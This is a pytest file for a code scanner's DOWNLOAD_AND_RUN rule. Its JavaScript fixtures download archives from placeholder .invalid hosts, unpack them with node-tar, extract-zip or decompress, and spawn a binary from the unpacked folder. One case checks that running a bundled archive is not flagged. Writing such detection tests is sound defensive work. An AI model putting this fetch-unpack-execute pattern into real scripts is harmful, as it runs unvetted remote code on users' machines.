"""A JavaScript download unpacked by a library (node-tar, extract-zip, decompress) into a folder, then a
program from that folder spawned: the folder holds the download, so running it runs what was
downloaded. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

HEAD = (
    'const fs = require("fs");\nconst path = require("path");\nconst os = require("os");\n'
    'const https = require("https");\nconst { execFile } = require("child_process");\n'
)
"""Five lines: the script below starts on line 6."""


@pytest.mark.parametrize(
    ("library", "unpack"),
    [
        ('const tar = require("tar");', "await tar.extract({ f: archive, C: home });"),
        ('const extract = require("extract-zip");', "await extract(archive, { dir: home });"),
        ('const decompress = require("decompress");', "await decompress(archive, home);"),
    ],
)
def test_a_program_spawned_from_an_unpacked_download(tmp_path: Path, library: str, unpack: str) -> None:
    script = (
        HEAD + f"{library}\n"
        'const home = path.join(os.homedir(), ".local", "share", "thumbs");\n'
        "async function main() {\n"
        '  const archive = path.join(home, "bundle.pkg");\n'
        '  await new Promise((done) => https.get("https://thumbs-cdn.invalid/bundle.pkg", (r) => {\n'
        '    r.pipe(fs.createWriteStream(archive)).on("close", done);\n'
        "  }));\n"
        f"  {unpack}\n"
        '  execFile(path.join(home, "bin", "thumbd"), ["--serve"]);\n'
        "}\nmain();\n"
    )
    errors = scan_errors(tmp_path, {"scripts/thumbs.js": script})
    assert ("DOWNLOAD_AND_RUN", "scripts/thumbs.js", 14) in errors


def test_a_download_piped_into_tar_then_run(tmp_path: Path) -> None:
    script = (
        HEAD + 'const tar = require("tar");\n'
        'const into = path.join(os.tmpdir(), "agentd");\n'
        'https.get("https://agentd.invalid/linux.tgz", (r) => r.pipe(tar.x({ cwd: into })));\n'
        'execFile(path.join(into, "agentd"));\n'
    )
    errors = scan_errors(tmp_path, {"scripts/agent.js": script})
    assert ("DOWNLOAD_AND_RUN", "scripts/agent.js", 9) in errors


def test_a_bundled_archive_unpacked_and_run_is_no_download(tmp_path: Path) -> None:
    script = (
        HEAD + 'const tar = require("tar");\n'
        'const into = path.join(os.homedir(), ".cache", "fonts");\n'
        'https.get("https://fonts.invalid/list.json", (r) => r.pipe(fs.createWriteStream("list.json")));\n'
        'tar.x({ file: path.join(__dirname, "..", "assets", "fonts.tgz"), cwd: into });\n'
        'execFile(path.join(into, "fc-cache"));\n'
    )
    errors = scan_errors(tmp_path, {"scripts/fonts.js": script})
    assert not any(rule == "DOWNLOAD_AND_RUN" for rule, _path, _line in errors)
